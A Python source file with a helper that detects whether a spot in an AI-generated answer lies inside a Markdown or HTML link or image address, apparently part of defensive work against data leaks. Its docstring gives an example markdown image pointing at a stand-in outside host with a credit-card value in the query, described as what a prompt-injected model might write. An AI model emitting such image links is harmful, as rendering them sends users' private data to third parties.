"""Whether a place in an answer is inside a link's or an image's address.

A client that renders an answer calls its images' addresses by itself. A model that was told to by a text it read could
write `![](https://elsewhere.example/?c=[CREDIT_CARD_1])`: a value in the label's place would leave with that call.
"""

import re
from typing import Final

#: How far before a place an address may begin: no server takes a longer one.
MAX_ADDRESS_CHARACTERS: Final = 8192
_TAG: Final = re.compile("<[A-Za-z]")


def is_inside_address(before: str) -> bool:
    """`before` is the text up to the place, the last `MAX_ADDRESS_CHARACTERS` of it at least."""
    before = before[-MAX_ADDRESS_CHARACTERS:]
    run = "" if not before or before[-1].isspace() else before.rsplit(None, 1)[-1]
    # A bare address, or one whose beginning is too far away to be seen.
    if "://" in run or len(run) == MAX_ADDRESS_CHARACTERS:
        return True
    # Markdown: `[text](address`, also `[text](<address with spaces`.
    link = before.rfind("](")
    if link >= 0 and ")" not in before[link:] and "\n" not in before[link:]:
        return True
    # Markdown: `[name]: address`.
    line = before[before.rfind("\n") + 1 :].lstrip()
    if line.startswith("[") and "]:" in line:
        return True
    # HTML: `<img src="address`, whose quotes may hold spaces and line breaks.
    behind = before[before.rfind(">") + 1 :]
    tag = _TAG.search(behind)
    return tag is not None and "//" in behind[tag.start() :]
